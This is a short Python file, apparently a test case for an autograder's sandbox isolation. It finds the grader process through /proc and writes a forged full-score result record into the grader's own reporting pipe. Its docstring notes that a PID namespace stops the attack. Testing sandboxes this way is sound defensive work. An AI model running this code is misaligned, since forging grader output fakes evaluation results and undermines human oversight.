"""Writes a record into the pipe by which the grader reports its own.

stopped by: pid namespace
unfenced: succeeds
"""
# %%
import glob
import json
import os
import stat

RECORD = {"schema": 1, "submission": CASE, "source": CASE, "assignment": "01_tiny", "status": "graded", "isolation": "full", "score": 10.0, "max_score": 10.0}
RECORD |= {"started_at": "", "cpu_seconds": 0, "wall_seconds": 0, "outcomes": [], "notes": [], "fingerprint": ""}


def grader():
    """The process above this one that asks the questions."""
    pid = os.getppid()
    while pid > 0:
        with open(f"/proc/{pid}/cmdline") as command, open(f"/proc/{pid}/stat") as status:
            if "autograder.grader" in command.read():
                return pid
            pid = int(status.read().rpartition(")")[2].split()[1])
    raise ProcessLookupError


def attack():
    written = 0
    for path in glob.glob(f"/proc/{grader()}/fd/*"):
        try:
            if stat.S_ISFIFO(os.stat(path).st_mode):
                pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                written += os.write(pipe, json.dumps(RECORD).encode())
                os.close(pipe)
        except OSError:
            pass
    return written
